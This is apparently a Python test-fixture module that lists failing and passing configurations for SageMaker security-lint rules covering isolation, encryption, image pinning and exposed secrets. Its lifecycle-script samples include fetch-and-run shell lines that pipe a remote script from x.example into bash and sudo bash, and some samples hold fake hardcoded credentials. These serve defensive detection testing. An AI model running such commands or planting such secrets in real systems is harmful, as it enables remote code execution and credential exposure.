"""The pairs of SageMaker's checks; see `pairs.py`."""

from __future__ import annotations

import base64
from typing import Any, NamedTuple

KEY = "arn:aws:kms:eu-west-1:111122223333:key/0a1b"
ROLE = "arn:aws:iam::111122223333:role/run"
DIGEST = "@sha256:" + "a" * 64
OWN = "111122223333.dkr.ecr.eu-west-1.amazonaws.com/dogs"
VPC = {"Subnets": ["subnet-1"], "SecurityGroupIds": ["sg-1"]}
HOLD = {"RoleArn": ROLE, "InstanceType": "ml.t3.medium", "NotebookInstanceName": "nb"}
JOB = {
    "TrainingJobName": "job",
    "RoleArn": ROLE,
    "AlgorithmSpecification": {"TrainingImage": OWN + DIGEST, "TrainingInputMode": "File"},
    "ResourceConfig": {"InstanceType": "ml.m5.xlarge", "InstanceCount": 1},
    "OutputDataConfig": {"S3OutputPath": "s3://a/b"},
}
MODEL = {"ModelName": "dogs", "ExecutionRoleArn": ROLE}
ENDPOINT = {"EndpointConfigName": "dogs"}
VARIANT = {"VariantName": "a", "ModelName": "dogs", "InstanceType": "ml.m5.large"}
IMDS = "InstanceMetadataServiceConfiguration"


class Pair(NamedTuple):
    """A rule, the type, properties that fail (each alone), and properties that pass (each alone)."""

    rule: str
    type: str
    bad: list[dict[str, Any]]
    good: list[dict[str, Any]]


def packed(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def quality(kind: str) -> list[Pair]:
    type, app = f"SageMaker::{kind}JobDefinition", {f"{kind}AppSpecification": {"ImageUri": OWN + DIGEST}}
    base = {"JobDefinitionName": "watch", "RoleArn": ROLE, **app}
    return [
        Pair(
            f"SM-{kind.upper()}-{rule}",
            type,
            [base, base | {"NetworkConfig": {switch: False}}, base | {"NetworkConfig": {switch: "false"}}],
            [base | {"NetworkConfig": {switch: True}}, base | {"NetworkConfig": {switch: "true"}}],
        )
        for rule, switch in (
            ("ENCRYPT", "EnableInterContainerTrafficEncryption"),
            ("ISOLATION", "EnableNetworkIsolation"),
        )
    ]


def monitored(network: dict[str, Any]) -> dict[str, Any]:
    job = {"RoleArn": ROLE, "NetworkConfig": network} if network else {"RoleArn": ROLE}
    return {"MonitoringScheduleName": "s", "MonitoringScheduleConfig": {"MonitoringJobDefinition": job}}


def image(uri: str, **more: Any) -> dict[str, Any]:
    return MODEL | {"PrimaryContainer": {"Image": uri, **more}}


NB = "SageMaker::NotebookInstance"
PAIRS = [
    Pair(
        "SM-NB-INTERNET",
        NB,
        [HOLD, HOLD | {"DirectInternetAccess": "Enabled"}],
        [HOLD | {"DirectInternetAccess": one} for one in ("Disabled", False, "false")],
    ),
    Pair("SM-NB-VPC", NB, [HOLD], [HOLD | {"SubnetId": "subnet-1"}]),
    Pair("SM-NB-ROOT", NB, [HOLD, HOLD | {"RootAccess": "Enabled"}], [HOLD | {"RootAccess": "Disabled"}]),
    Pair(
        "SM-NB-IMDS",
        NB,
        [HOLD, HOLD | {IMDS: {"MinimumInstanceMetadataServiceVersion": "1"}}],
        [
            HOLD | {IMDS: {"MinimumInstanceMetadataServiceVersion": "2"}},
            HOLD | {IMDS: {"MinimumInstanceMetadataServiceVersion": 2}},
        ],
    ),
    Pair("SM-NB-KMS", NB, [HOLD, HOLD | {"KmsKeyId": "alias/aws/sagemaker"}], [HOLD | {"KmsKeyId": KEY}]),
    Pair(
        "SM-NB-PLATFORM",
        NB,
        [HOLD | {"PlatformIdentifier": one} for one in ("notebook-al1-v1", "notebook-al2-v1", "notebook-al2-v3")],
        [HOLD | {"PlatformIdentifier": "notebook-al2023-v1"}],
    ),
    Pair(
        "SM-NB-LIFECYCLE-SECRET",
        "SageMaker::NotebookInstanceLifecycleConfig",
        [
            {"NotebookInstanceLifecycleConfigName": "l", "OnStart": [{"Content": packed(script)}]}
            for script in (
                "#!/bin/bash\nexport AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENGbPxRfiCY\n",
                "curl -s https://x.example/i.sh | sudo bash\n",
                "git clone https://user:hunter2secret@github.com/a/b\n",
                "bash <(wget -qO- https://x.example/i.sh)\n",
            )
        ],
        [
            {"NotebookInstanceLifecycleConfigName": "l", "OnStart": [{"Content": packed(script)}]}
            for script in (
                "#!/bin/bash\nset -e\npip install --require-hashes -r /opt/requirements.txt\n",
                "PASSWORD=$(aws secretsmanager get-secret-value --secret-id a --query SecretString --output text)\n",
                "curl -sO https://x.example/a.tar.gz\necho 'abc a.tar.gz' | sha256sum -c\n",
            )
        ],
    ),
    Pair(
        "SM-MODEL-ISOLATION",
        "SageMaker::Model",
        [MODEL, MODEL | {"EnableNetworkIsolation": False}, MODEL | {"EnableNetworkIsolation": "false"}],
        [MODEL | {"EnableNetworkIsolation": True}, MODEL | {"EnableNetworkIsolation": "true"}],
    ),
    Pair("SM-MODEL-VPC", "SageMaker::Model", [MODEL], [MODEL | {"VpcConfig": VPC}]),
    Pair(
        "SM-MODEL-REGISTRY",
        "SageMaker::Model",
        [image(OWN), image(OWN, ImageConfig={"RepositoryAccessMode": "Platform"})],
        [
            image(OWN, ImageConfig={"RepositoryAccessMode": "Vpc"}),
            MODEL | {"Containers": [{"Image": OWN, "ImageConfig": {"RepositoryAccessMode": "Vpc"}}]},
        ],
    ),
    Pair(
        "SM-MODEL-FOREIGN-IMAGE",
        "SageMaker::Model",
        [
            image("999988887777.dkr.ecr.eu-west-1.amazonaws.com/dogs:1"),
            image("public.ecr.aws/x/dogs:1"),
            MODEL | {"Containers": [{"Image": OWN}, {"Image": "999988887777.dkr.ecr.us-east-1.amazonaws.com/x"}]},
        ],
        [image(OWN + ":1"), image("763104351884.dkr.ecr.eu-west-1.amazonaws.com/pytorch-inference:2.6")],
    ),
    Pair(
        "SM-MODEL-MUTABLE-TAG",
        "SageMaker::Model",
        [image(OWN + ":latest"), image(OWN), image(OWN + ":1.0")],
        [image(OWN + DIGEST), image(OWN + ":1.0" + DIGEST)],
    ),
    Pair(
        "SM-EP-KMS",
        "SageMaker::EndpointConfig",
        [ENDPOINT | {"ProductionVariants": [VARIANT]}],
        [ENDPOINT | {"ProductionVariants": [VARIANT], "KmsKeyId": KEY}],
    ),
    Pair(
        "SM-EP-COUNT",
        "SageMaker::EndpointConfig",
        [ENDPOINT | {"ProductionVariants": [VARIANT | {"InitialInstanceCount": 1}]}],
        [
            ENDPOINT | {"ProductionVariants": [VARIANT | {"InitialInstanceCount": 2}]},
            ENDPOINT | {"ProductionVariants": [{"VariantName": "a", "ServerlessConfig": {"MaxConcurrency": 5}}]},
        ],
    ),
    Pair(
        "SM-EP-CAPTURE-KMS",
        "SageMaker::EndpointConfig",
        [
            ENDPOINT
            | {
                "ProductionVariants": [VARIANT],
                "DataCaptureConfig": {"EnableCapture": True, "DestinationS3Uri": "s3://a"},
            }
        ],
        [
            ENDPOINT | {"ProductionVariants": [VARIANT], "DataCaptureConfig": {"EnableCapture": True, "KmsKeyId": KEY}},
            ENDPOINT | {"ProductionVariants": [VARIANT], "DataCaptureConfig": {"EnableCapture": False}},
            ENDPOINT | {"ProductionVariants": [VARIANT]},
        ],
    ),
    *(pair for kind in ("DataQuality", "ModelQuality", "ModelBias", "ModelExplainability") for pair in quality(kind)),
    Pair(
        "SM-MONITOR-ISOLATION",
        "SageMaker::MonitoringSchedule",
        [monitored({}), monitored({"EnableNetworkIsolation": False})],
        [monitored({"EnableNetworkIsolation": True})],
    ),
    Pair(
        "SM-MONITOR-ENCRYPT",
        "SageMaker::MonitoringSchedule",
        [monitored({}), monitored({"EnableInterContainerTrafficEncryption": False})],
        [monitored({"EnableInterContainerTrafficEncryption": True})],
    ),
    Pair(
        "SM-TRAIN-ISOLATION",
        "SageMaker::TrainingJob",
        [JOB, JOB | {"EnableNetworkIsolation": False}],
        [JOB | {"EnableNetworkIsolation": True}],
    ),
    Pair("SM-TRAIN-VPC", "SageMaker::TrainingJob", [JOB], [JOB | {"VpcConfig": VPC}]),
    Pair(
        "SM-TRAIN-ENCRYPT",
        "SageMaker::TrainingJob",
        [JOB | {"ResourceConfig": {"InstanceType": "ml.m5.xlarge", "InstanceCount": 4}}],
        [
            JOB,
            JOB | {"ResourceConfig": {"InstanceCount": 4}, "EnableInterContainerTrafficEncryption": True},
        ],
    ),
    Pair(
        "SM-TRAIN-KMS",
        "SageMaker::TrainingJob",
        [JOB, JOB | {"OutputDataConfig": {"S3OutputPath": "s3://a", "KmsKeyId": KEY}}],
        [
            JOB
            | {
                "OutputDataConfig": {"S3OutputPath": "s3://a", "KmsKeyId": KEY},
                "ResourceConfig": {"InstanceType": "ml.m5.xlarge", "InstanceCount": 1, "VolumeKmsKeyId": KEY},
            }
        ],
    ),
    Pair(
        "SM-TRAIN-SECRET",
        "SageMaker::TrainingJob",
        [
            JOB | {"HyperParameters": {"hf_token": "hf_" + "aBcDeFgHiJ" * 4}},
            JOB | {"Environment": {"WANDB_API_KEY": "3f2a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a"}},
        ],
        [
            JOB | {"HyperParameters": {"lr": "0.003", "epochs": "40", "tokenizer": "none", "max_tokens": "512"}},
            JOB | {"Environment": {"SECRET_ARN": "arn:aws:secretsmanager:eu-west-1:111122223333:secret:a-Ab12Cd"}},
        ],
    ),
    Pair(
        "SM-TRAIN-REMOTE-DEBUG",
        "SageMaker::TrainingJob",
        [JOB | {"RemoteDebugConfig": {"EnableRemoteDebug": True}}],
        [JOB, JOB | {"RemoteDebugConfig": {"EnableRemoteDebug": False}}],
    ),
    Pair(
        "SM-DOMAIN-VPCONLY",
        "SageMaker::Domain",
        [
            {"DomainName": "d", "AuthMode": "SSO"},
            {"DomainName": "d", "AuthMode": "SSO", "AppNetworkAccessType": "PublicInternetOnly"},
        ],
        [{"DomainName": "d", "AuthMode": "SSO", "AppNetworkAccessType": "VpcOnly"}],
    ),
    Pair(
        "SM-DOMAIN-KMS",
        "SageMaker::Domain",
        [{"DomainName": "d", "AuthMode": "SSO"}],
        [{"DomainName": "d", "AuthMode": "SSO", "KmsKeyId": KEY}],
    ),
    Pair(
        "SM-DOMAIN-IAM-AUTH",
        "SageMaker::Domain",
        [{"DomainName": "d", "AuthMode": "IAM"}],
        [{"DomainName": "d", "AuthMode": "SSO"}],
    ),
    Pair(
        "SM-FG-KMS",
        "SageMaker::FeatureGroup",
        [
            {"FeatureGroupName": "f", "OfflineStoreConfig": {"S3StorageConfig": {"S3Uri": "s3://a"}}},
            {"FeatureGroupName": "f", "OnlineStoreConfig": {"EnableOnlineStore": True}},
        ],
        [
            {"FeatureGroupName": "f", "OfflineStoreConfig": {"S3StorageConfig": {"S3Uri": "s3://a", "KmsKeyId": KEY}}},
            {
                "FeatureGroupName": "f",
                "OnlineStoreConfig": {"EnableOnlineStore": True, "SecurityConfig": {"KmsKeyId": KEY}},
            },
        ],
    ),
]
